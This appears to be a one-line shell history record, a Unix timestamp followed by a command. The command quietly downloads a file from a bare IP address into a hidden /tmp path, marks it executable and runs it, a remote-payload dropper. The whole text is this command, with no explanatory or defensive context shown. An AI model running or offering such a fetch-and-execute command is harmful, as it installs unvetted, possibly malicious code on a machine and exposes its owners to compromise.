#1710036000
wget -q http://203.0.113.45/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k
